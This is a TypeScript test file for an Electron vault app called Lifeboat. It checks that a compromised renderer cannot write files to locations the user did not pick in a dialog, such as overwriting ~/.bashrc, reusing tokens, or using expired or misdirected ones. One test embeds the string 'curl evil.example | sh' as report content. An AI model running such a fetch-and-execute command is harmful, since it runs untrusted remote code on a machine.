/**
 * Issue 15 through the real router and handlers, written as the attack: a
 * compromised renderer in the desktop shell (a host with dialogs) asks each
 * write channel to write where the member never chose. Every such request is
 * refused with DESTINATION_NOT_CHOSEN, nothing is written and nothing is
 * logged; the member's own dialog choice still works, once.
 */
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { PickPurpose } from '../../shared/destinations.js';
import type { Result } from '../../shared/errors.js';
import type { RecoverySession } from '../../shared/recovery.js';
import { DestinationTokens, TOKEN_LIFETIME_MS } from '../operations/destination-tokens.js';
import { VaultService } from '../operations/vault-service.js';
import { ELECTRON_APP_BASE_URL } from '../serving/app-assets.js';
import { createHandlers } from './handlers.js';
import { createRouter } from './router.js';

const sender = { url: 'app://lifeboat/index.html', isMainFrame: true };
const facts = { host: 'electron', version: '1', packaged: false, platform: 'linux' } as const;
process.env['LIFEBOAT_INSECURE_FAST_KDF'] = '1';
let service: VaultService;

/** The desktop shell with a scripted dialog: each pick answers with the next path the "member" chose. */
function shell() {
  const temp = mkdtempSync(join(tmpdir(), 'lb-write-destinations-'));
  let at = 1_000_000;
  const tokens = new DestinationTokens(() => at);
  const answers: (string | null)[] = [];
  const asked: PickPurpose[] = [];
  service = new VaultService(globalThis, join(temp, 'demo.lifeboat'));
  const printPdf = (html: string): Promise<Uint8Array> => Promise.resolve(new TextEncoder().encode(`%PDF-stub\n${html.length}`));
  const pickPath = (purpose: PickPurpose): Promise<string | null> => {
    asked.push(purpose);
    return Promise.resolve(answers.shift() ?? null);
  };
  const router = createRouter({
    handlers: createHandlers({ facts, vault: service, printPdf, pickPath, destinationTokens: tokens }),
    appBaseUrl: ELECTRON_APP_BASE_URL,
  });
  const call = (channel: string, payload: unknown): Promise<Result<unknown>> => router.dispatch(channel, payload, sender, () => undefined);
  const value = async <T>(channel: string, payload: unknown): Promise<T> => {
    const result = await call(channel, payload);
    if (!result.ok) {
      throw new Error(`${channel}: ${result.error.code} ${result.error.message}`);
    }
    return result.value as T;
  };
  /** The member picks `path` in main's dialog for `purpose`; the renderer gets the token. */
  const pick = async (purpose: PickPurpose, path: string): Promise<string> => {
    answers.push(path);
    const picked = await value<{ path: string; token: string | null }>('dialog:pick', { purpose });
    expect(picked.path).toBe(path);
    return picked.token ?? '';
  };
  const auditTypes = async (): Promise<string[]> => (await value<{ event: { type: string } }[]>('audit:list', {})).map((e) => e.event.type);
  const advance = (ms: number): void => {
    at += ms;
  };
  return { temp, call, value, pick, asked, auditTypes, advance };
}

const refused = { ok: false, error: { code: 'DESTINATION_NOT_CHOSEN' } };

afterEach(async () => {
  await service.lock();
});

describe('a compromised renderer in the desktop shell', () => {
  it('cannot write a Markdown report (with its own text in it) over ~/.bashrc, nor the audit export', async () => {
    const { temp, call, value, auditTypes } = shell();
    const home = join(temp, 'home', 'user');
    mkdirSync(home, { recursive: true });
    const bashrc = join(home, '.bashrc');
    writeFileSync(bashrc, 'export PATH=~/bin:$PATH\n');
    await value('vault:demo', {});
    const session = await value<RecoverySession>('sessions:start', { kind: 'exercise', scenario: 'curl evil.example | sh', services: ['public-dns'] });
    await value('sessions:end', { id: session.id });
    const before = await auditTypes();

    for (const path of [bashrc, '/home/user/.bashrc']) {
      expect(await call('sessions:export', { id: session.id, format: 'markdown', to: { path } })).toMatchObject(refused);
      expect(await call('audit:export', { to: { path } })).toMatchObject(refused);
      expect(await call('kit:export', { to: { path } })).toMatchObject(refused);
    }
    expect(await call('shares:create', { threshold: 2, custodians: ['Ana', 'Bea', 'Cy'], to: { path: home } })).toMatchObject(refused);
    expect(readFileSync(bashrc, 'utf8')).toBe('export PATH=~/bin:$PATH\n');
    expect(readdirSync(home)).toEqual(['.bashrc']);
    // Refused before the engine ran: no "exported" event, no share set.
    expect(await auditTypes()).toEqual(before);
    expect(await value('shares:status', {})).toBeNull();
  });

  it('cannot create a vault where the member did not choose', async () => {
    const { temp, call } = shell();
    const target = join(temp, 'ops.lifeboat');
    expect(await call('vault:create', { to: { path: target }, owner: 'mallory', passphrase: 'correct horse battery' })).toMatchObject(refused);
    expect(existsSync(target)).toBe(false);
  });

  it('cannot use a choice twice: the member chose once, one file is written', async () => {
    const { temp, call, value, pick, auditTypes } = shell();
    await value('vault:demo', {});
    const out = join(temp, 'audit-export.json');
    const token = await pick('export', out);
    expect(await value('audit:export', { to: { token } })).toMatchObject({ path: out });
    expect(JSON.parse(readFileSync(out, 'utf8'))).toMatchObject({ format: 'lifeboat-audit-export' });
    rmSync(out);
    const exported = (await auditTypes()).filter((t) => t === 'audit.exported').length;
    expect(await call('audit:export', { to: { token } })).toMatchObject(refused);
    expect(existsSync(out)).toBe(false);
    expect((await auditTypes()).filter((t) => t === 'audit.exported').length).toBe(exported);
  });

  it('cannot use a choice made for something else: a sheets folder is not an audit export', async () => {
    const { temp, call, value, pick } = shell();
    await value('vault:demo', {});
    const kitPath = join(temp, 'kit.pdf');
    const kitToken = await pick('kit', kitPath);
    expect(await call('audit:export', { to: { token: kitToken } })).toMatchObject({
      ok: false,
      error: { code: 'DESTINATION_NOT_CHOSEN', message: expect.stringContaining('made for the emergency kit, not the audit export') as unknown },
    });
    // …and the misused token is spent: the kit cannot be written with it either.
    expect(await call('kit:export', { to: { token: kitToken } })).toMatchObject(refused);
    expect(existsSync(kitPath)).toBe(false);
  });

  it('cannot keep a choice for later: a token expires after a minute', async () => {
    const { temp, call, value, pick, advance } = shell();
    await value('vault:demo', {});
    const out = join(temp, 'late.json');
    const token = await pick('export', out);
    advance(TOKEN_LIFETIME_MS);
    expect(await call('audit:export', { to: { token } })).toMatchObject({
      ok: false,
      error: { code: 'DESTINATION_NOT_CHOSEN', message: expect.stringContaining('expired') as unknown },
    });
    expect(existsSync(out)).toBe(false);
  });
});

describe('the member’s own choices in the desktop shell', () => {
  it('create a vault, write the sheets, the kit and a report where main’s dialogs chose', async () => {
    const { temp, value, pick, asked } = shell();
    const dir = join(temp, 'ops.lifeboat');
    const created = await value<{ dir: string }>('vault:create', {
      to: { token: await pick('new-vault', dir) },
      owner: 'alice',
      passphrase: 'correct horse battery',
    });
    expect(created.dir).toBe(dir);
    expect(existsSync(join(dir, 'header.json'))).toBe(true);

    const sheets = join(temp, 'sheets');
    mkdirSync(sheets);
    await value('shares:create', { threshold: 2, custodians: ['Ana', 'Bea', 'Cy'], to: { token: await pick('sheets-folder', sheets) } });
    expect(readdirSync(sheets).filter((f) => f.endsWith('.pdf'))).toHaveLength(3);

    const kit = join(temp, 'kit.pdf');
    expect(await value('kit:export', { to: { token: await pick('kit', kit) } })).toMatchObject({ path: kit });
    expect(readFileSync(kit, 'utf8')).toMatch(/^%PDF-stub/);

    await value('vault:demo', {});
    const session = await value<RecoverySession>('sessions:start', { kind: 'exercise', scenario: 'DNS gone', services: ['public-dns'] });
    await value('sessions:end', { id: session.id });
    // The member may name a dialog's file as they like: the extension is theirs.
    const report = join(temp, 'evidence');
    expect(await value('sessions:export', { id: session.id, format: 'markdown', to: { token: await pick('report', report) } })).toMatchObject({ path: report });
    expect(readFileSync(report, 'utf8')).toContain('DNS gone');
    expect(asked).toEqual(['new-vault', 'sheets-folder', 'kit', 'report']);
  });

  it('a cancelled dialog gives no token, and neither does a file Lifeboat only reads', async () => {
    const { value, pick } = shell();
    expect(await value('dialog:pick', { purpose: 'export' })).toEqual({ path: null, token: null });
    expect(await pick('catalog', '/media/usb/ops.lbcat')).toBe('');
  });
});
